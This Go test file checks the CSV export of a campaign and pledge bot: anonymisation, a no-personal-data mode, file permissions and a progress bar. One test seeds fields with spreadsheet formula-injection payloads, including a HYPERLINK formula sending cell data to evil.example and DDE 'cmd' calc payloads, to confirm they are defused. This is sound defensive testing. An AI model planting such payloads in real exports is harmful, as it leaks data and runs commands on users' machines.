package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"mobilise/bot"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"mobilise/store"
)

// opsRun runs the program with env as the whole environment and returns its
// exit code, stdout and stderr.
func opsRun(t *testing.T, args []string, env map[string]string) (int, string, string) {
	t.Helper()
	errFile, err := os.CreateTemp(t.TempDir(), "stderr")
	require.NoError(t, err)
	defer errFile.Close()
	var out bytes.Buffer
	code := run(t.Context(), args, func(k string) string { return env[k] }, strings.NewReader(""), &out, errFile)
	stderr, err := os.ReadFile(errFile.Name())
	require.NoError(t, err)
	return code, out.String(), string(stderr)
}

// readCSV reads an exported file, checking the byte-order mark and the mode.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	fi, err := os.Stat(path)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), fi.Mode().Perm(), path)
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	rest, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
	require.True(t, ok, "%s starts with a byte-order mark", path)
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	require.NoError(t, err)
	return rows
}

// column returns the values of the named column, header excluded.
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	i := -1
	for j, h := range rows[0] {
		if h == name {
			i = j
		}
	}
	require.GreaterOrEqual(t, i, 0, "no column %s in %v", name, rows[0])
	var out []string
	for _, r := range rows[1:] {
		out = append(out, r[i])
	}
	return out
}

// seedPoll adds to opsSeed's data a poll of the campaign peace, answered
// by its WhatsApp pledger and by a person since forgotten.
func seedPoll(t *testing.T, st *store.Store) {
	t.Helper()
	ctx := context.Background()
	peace, err := st.CampaignByCode(ctx, "peace")
	require.NoError(t, err)
	wa, err := st.ContactByAddress(ctx, bot.Address{Channel: bot.WhatsApp, ID: opsPhone})
	require.NoError(t, err)
	gone, _, err := st.EnsureContact(ctx, bot.MustParseAddress("telegram:778"), "Gone Too", "ar")
	require.NoError(t, err)
	p := &store.Poll{Kind: store.PollQuestion, CampaignID: peace.ID, QuestionAR: "هل تأتي؟", QuestionEN: "Will you come?",
		Options: []store.PollOption{{AR: "نعم", EN: "Yes"}, {AR: "لا", EN: "No"}}, CreatedBy: wa.ID,
		CreatedAt: time.Date(2026, 2, 3, 9, 0, 0, 0, time.UTC)}
	require.NoError(t, st.CreatePoll(ctx, p))
	require.NoError(t, st.MarkAsked(ctx, p.ID, []uint64{wa.ID, gone.ID}, p.CreatedAt))
	at := time.Date(2026, 2, 3, 10, 11, 12, 0, time.UTC)
	_, err = st.AnswerPoll(ctx, store.PollAnswer{PollID: p.ID, ContactID: wa.ID, Option: 0, At: at, Channel: bot.WhatsApp, Governorate: "nablus", Lang: "ar"})
	require.NoError(t, err)
	_, err = st.AnswerPoll(ctx, store.PollAnswer{PollID: p.ID, ContactID: gone.ID, Option: 1, At: at, Channel: bot.Telegram, Lang: "ar"})
	require.NoError(t, err)
	require.NoError(t, st.ForgetContact(ctx, gone.ID))
}

func TestExport(t *testing.T) {
	st, data := opsStore(t)
	opsSeed(t, st)
	seedPoll(t, st)
	require.NoError(t, st.Close()) // the bot is stopped: the file is opened directly
	out := filepath.Join(t.TempDir(), "export")

	code, stdout, stderr := opsRun(t, []string{"export", "--dir", out}, map[string]string{"MOBILISE_DATA": data})
	require.Equal(t, 0, code, stderr)
	assert.Empty(t, stderr, "no progress bar when stderr is not a terminal")
	assert.Contains(t, stdout, filepath.Join(out, "pledges.csv")+": 3 rows")
	fi, err := os.Stat(out)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o700), fi.Mode().Perm())

	insts := readCSV(t, filepath.Join(out, "institutions.csv"))
	require.Len(t, insts, 3)
	assert.Equal(t, []string{"مركز السلام", "جمعية"}, column(t, insts, "name_ar"))
	assert.Equal(t, []string{"nablus jenin", ""}, column(t, insts, "governorates"))
	assert.Equal(t, []string{"approved", "pending"}, column(t, insts, "status"))
	assert.Equal(t, []string{"'" + opsInstPhone, ""}, column(t, insts, "phone"), "a leading + would be read as a formula")
	assert.Equal(t, []string{"'" + opsInstContact, ""}, column(t, insts, "contact_person"), "a formula is defused")

	camps := readCSV(t, filepath.Join(out, "campaigns.csv"))
	assert.Equal(t, []string{"peace", "quiet"}, column(t, camps, "code"))
	assert.Equal(t, []string{"3", "0"}, column(t, camps, "pledges"))
	assert.Equal(t, []string{"1", "0"}, column(t, camps, "signups"))
	assert.Equal(t, []string{"false", "true"}, column(t, camps, "closed"))

	pledges := readCSV(t, filepath.Join(out, "pledges.csv"))
	require.Len(t, pledges, 4)
	assert.Equal(t, []string{"whatsapp:" + opsPhone, "telegram:555", ""}, column(t, pledges, "addresses"))
	assert.Equal(t, []string{opsPersonName, "Omar", ""}, column(t, pledges, "name"), "the forgotten person's pledge stays, anonymous")
	assert.Equal(t, []string{"", "1", ""}, column(t, pledges, "referred_by"))
	assert.Equal(t, "2026-02-03T10:11:12Z", column(t, pledges, "at")[0])

	signups := readCSV(t, filepath.Join(out, "signups.csv"))
	require.Len(t, signups, 2)
	assert.Equal(t, []string{"peace"}, column(t, signups, "campaign_code"))

	polls := readCSV(t, filepath.Join(out, "polls.csv"))
	require.Len(t, polls, 3, "a row per option")
	assert.Equal(t, []string{"نعم", "لا"}, column(t, polls, "option_ar"))
	assert.Equal(t, []string{"1", "1"}, column(t, polls, "answers"))
	assert.Equal(t, []string{"50", "50"}, column(t, polls, "percent"))
	assert.Equal(t, []string{"2", "2"}, column(t, polls, "asked"))
	assert.Equal(t, []string{"peace", "peace"}, column(t, polls, "campaign_code"))
	answers := readCSV(t, filepath.Join(out, "poll_answers.csv"))
	require.Len(t, answers, 3)
	assert.Equal(t, []string{"1", "2"}, column(t, answers, "option"))
	assert.Equal(t, []string{opsPersonName, ""}, column(t, answers, "name"), "the forgotten person's answer stays, anonymous")
	assert.Equal(t, []string{"nablus", ""}, column(t, answers, "governorate"))
}

func TestExportWithoutPersonalData(t *testing.T) {
	st, data := opsStore(t)
	opsSeed(t, st)
	seedPoll(t, st)
	require.NoError(t, st.Close())
	out := filepath.Join(t.TempDir(), "export")

	code, _, stderr := opsRun(t, []string{"export", "--no-personal", "--dir", out, "--data", data}, nil)
	require.Equal(t, 0, code, stderr)
	var all strings.Builder
	for _, name := range []string{"institutions.csv", "campaigns.csv", "pledges.csv", "signups.csv", "polls.csv", "poll_answers.csv"} {
		b, err := os.ReadFile(filepath.Join(out, name))
		require.NoError(t, err)
		all.Write(b)
	}
	for _, personal := range []string{opsPhone, opsPersonName, "Omar", "telegram:555", opsInstPhone, opsInstEmail, "HYPERLINK", "contact_id", "created_by", "applicant_id", "addresses"} {
		assert.NotContains(t, all.String(), personal)
	}
	pledges := readCSV(t, filepath.Join(out, "pledges.csv"))
	require.Len(t, pledges, 4, "every pledge stays, so totals add up")
	assert.Equal(t, []string{"campaign_id", "campaign_code", "date", "channel", "governorate", "lang", "referred"}, pledges[0])
	assert.Equal(t, []string{"2026-02-03", "2026-02-03", "2026-02-03"}, column(t, pledges, "date"), "the day, not the second")
	assert.Equal(t, []string{"false", "true", "false"}, column(t, pledges, "referred"))
	assert.Equal(t, []string{"nablus", "", ""}, column(t, pledges, "governorate"))
	insts := readCSV(t, filepath.Join(out, "institutions.csv"))
	assert.Equal(t, []string{"Peace Center", ""}, column(t, insts, "name_en"), "institutions' names are not personal")
	answers := readCSV(t, filepath.Join(out, "poll_answers.csv"))
	assert.Equal(t, []string{"poll_id", "campaign_code", "option", "option_ar", "date", "channel", "governorate", "lang"}, answers[0])
	assert.Equal(t, []string{"2026-02-03", "2026-02-03"}, column(t, answers, "date"))
}

func TestExportRefusals(t *testing.T) {
	data := filepath.Join(t.TempDir(), "data")
	code, _, stderr := opsRun(t, []string{"export", "--data", data}, nil)
	assert.Equal(t, 1, code)
	assert.Contains(t, stderr, "is --data right?")
	_, err := os.Stat(data)
	assert.ErrorIs(t, err, os.ErrNotExist, "a wrong --data creates nothing")

	code, _, stderr = opsRun(t, []string{"export", "extra"}, nil)
	assert.Equal(t, 2, code)
	assert.Contains(t, stderr, "Usage: mobilise export")

	code, _, stderr = opsRun(t, []string{"export", "--help"}, nil)
	assert.Equal(t, 0, code)
	assert.Contains(t, stderr, "--no-personal")
}

func TestProgressBar(t *testing.T) {
	var out bytes.Buffer
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	p := newProgress(&out, func() time.Time { return now })
	p.start(4)
	assert.Equal(t, "\rexporting [..............................] 0/4", out.String())
	out.Reset()
	p.add(1)
	assert.Empty(t, out.String(), "redrawn at most ten times a second")
	now = now.Add(time.Second)
	p.add(1)
	assert.Equal(t, "\rexporting [###############...............] 2/4", out.String())
	out.Reset()
	p.add(2)
	p.finish()
	assert.Equal(t, "\rexporting [##############################] 4/4\n", out.String())

	var none *progress
	none.start(3)
	none.add(1)
	none.finish() // a nil bar draws nothing and does not panic
}

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula.
const formulaStarts = "=+-@\t\r"

// TestExportGuardsEveryColumn fills every text field the export writes with
// a formula, each starting with another of the characters spreadsheets run,
// exports with and without personal data, and checks every cell of every
// column of every file: none may start a formula, and each formula written
// is there whole behind its '.
func TestExportGuardsEveryColumn(t *testing.T) {
	st, data := opsStore(t)
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"}
	f := func(i int) string { return formulas[i%len(formulas)] }
	at := time.Date(2026, 2, 3, 10, 11, 12, 0, time.UTC)
	person, _, err := st.EnsureContact(context.Background(), bot.Address{Channel: "=cmd|calc!A0", ID: "1"}, f(0), "ar") // the address's channel part too
	require.NoError(t, err)
	require.NoError(t, st.CreateInstitution(context.Background(), &store.Institution{
		NameAR: f(0), NameEN: f(1), Field: f(2), Governorates: []string{f(3), "nablus"}, ContactPerson: f(4),
		Phone: f(1), Email: f(0) + "@x.com", Status: store.InstitutionStatus(f(5)), ApplicantID: person.ID, CreatedAt: at,
	}))
	camp := &store.Campaign{Code: f(3), TitleAR: f(0), TitleEN: f(1), Kind: store.CampaignKind(f(2)), Target: -5, StartAt: at,
		EventPlace: f(4), CreatedBy: person.ID}
	require.NoError(t, st.CreateCampaign(context.Background(), camp))
	_, err = st.AddPledge(context.Background(), store.Pledge{CampaignID: camp.ID, ContactID: person.ID, At: at, Channel: bot.ChannelName(f(0)), Governorate: f(1), Lang: f(2)})
	require.NoError(t, err)
	_, err = st.AddSignup(context.Background(), store.Signup{CampaignID: camp.ID, ContactID: person.ID, At: at, Channel: bot.ChannelName(f(3)), Governorate: f(4), Lang: f(5)})
	require.NoError(t, err)
	poll := &store.Poll{Kind: store.PollKind(f(5)), CampaignID: camp.ID, QuestionAR: f(0), QuestionEN: f(1),
		Options: []store.PollOption{{AR: f(2), EN: f(3)}, {AR: f(4), EN: f(5)}}, CreatedBy: person.ID, CreatedAt: at}
	require.NoError(t, st.CreatePoll(context.Background(), poll))
	_, err = st.AnswerPoll(context.Background(), store.PollAnswer{PollID: poll.ID, ContactID: person.ID, Option: 1, At: at,
		Channel: bot.ChannelName(f(1)), Governorate: f(2), Lang: f(3)})
	require.NoError(t, err)
	require.NoError(t, st.Close())

	for _, flags := range [][]string{nil, {"--no-personal"}} {
		out := filepath.Join(t.TempDir(), "export")
		code, _, stderr := opsRun(t, append([]string{"export", "--data", data, "--dir", out}, flags...), nil)
		require.Equal(t, 0, code, stderr)
		files, err := filepath.Glob(filepath.Join(out, "*.csv"))
		require.NoError(t, err)
		require.Len(t, files, 6)
		guarded := 0
		for _, file := range files {
			rows := readCSV(t, file)
			require.Greater(t, len(rows), 1, "%s has a row", file)
			for _, row := range rows[1:] {
				for i, cell := range row {
					where := fmt.Sprintf("%s %v column %s", filepath.Base(file), flags, rows[0][i])
					if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
						t.Errorf("%s starts a formula: %q", where, cell)
					}
					if rest, ok := strings.CutPrefix(cell, "'"); ok {
						guarded++
						assert.True(t, strings.ContainsRune(formulaStarts, rune(rest[0])), "%s: %q guarded for nothing", where, cell)
					}
				}
			}
		}
		t.Logf("export %v: %d cells guarded", flags, guarded)
		insts := readCSV(t, filepath.Join(out, "institutions.csv"))
		assert.Equal(t, []string{"'" + f(0)}, column(t, insts, "name_ar"), "the formula is kept whole, as text")
		if flags == nil {
			assert.Equal(t, []string{"'" + f(0) + "@x.com"}, column(t, insts, "email"))
			assert.Equal(t, []string{"'=cmd|calc!A0:1"}, column(t, readCSV(t, filepath.Join(out, "pledges.csv")), "addresses"))
		}
		assert.Equal(t, []string{"'-5"}, column(t, readCSV(t, filepath.Join(out, "campaigns.csv")), "target"))
	}
}
